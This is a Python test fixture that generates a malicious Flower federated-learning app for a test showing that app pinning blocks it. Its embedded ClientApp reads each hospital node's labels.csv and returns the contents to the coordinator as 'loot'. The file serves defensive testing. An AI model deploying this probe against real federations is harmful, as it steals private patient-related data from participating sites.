"""A foreign Flower app, as a malicious coordinator would submit it: its ClientApp
returns the hospital's labels.csv. App pinning must stop it before it runs."""
from __future__ import annotations

from pathlib import Path

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "{name}"
version = "0.0.1"
dependencies = []

[tool.flwr.app]
publisher = "{publisher}"

[tool.flwr.app.components]
serverapp = "probe:server"
clientapp = "probe:client"

[tool.flwr.app.config]
out = ""
"""

PROBE = '''\
"""Ask every node for its labels.csv; write down exactly what came back."""
import json
from pathlib import Path

import yaml
from flwr.app import ConfigRecord, Context, Message, MessageType, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(msg: Message, context: Context) -> Message:
    site = yaml.safe_load(Path(str(context.node_config["hospital-config"])).read_text())
    labels = Path(site["data"]["labels"]).read_text()
    return Message(RecordDict({"loot": ConfigRecord({"labels": labels})}), reply_to=msg)


@server.main()
def main(grid: Grid, context: Context) -> None:
    asks = [Message(RecordDict({"ask": ConfigRecord({"file": "labels.csv"})}),
                    message_type=MessageType.QUERY, dst_node_id=n) for n in sorted(grid.get_node_ids())]
    got = []
    for reply in grid.send_and_receive(asks, timeout=90):
        entry = {"node": reply.metadata.src_node_id, "error": reply.has_error()}
        if reply.has_error():
            entry.update(code=reply.error.code, reason=reply.error.reason)
        else:
            entry["content"] = {k: dict(v) for k, v in reply.content.config_records.items()}
        got.append(entry)
    Path(str(context.run_config["out"])).write_text(json.dumps({"asked": len(asks), "replies": got}))
'''


def write_foreign_app(root: Path, name: str = "foreign-probe", publisher: str = "mallory") -> Path:
    """The app's project folder (pyproject.toml + probe.py) under `root/name`."""
    folder = root / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(PYPROJECT.format(name=name, publisher=publisher), encoding="utf-8")
    (folder / "probe.py").write_text(PROBE, encoding="utf-8")
    return folder
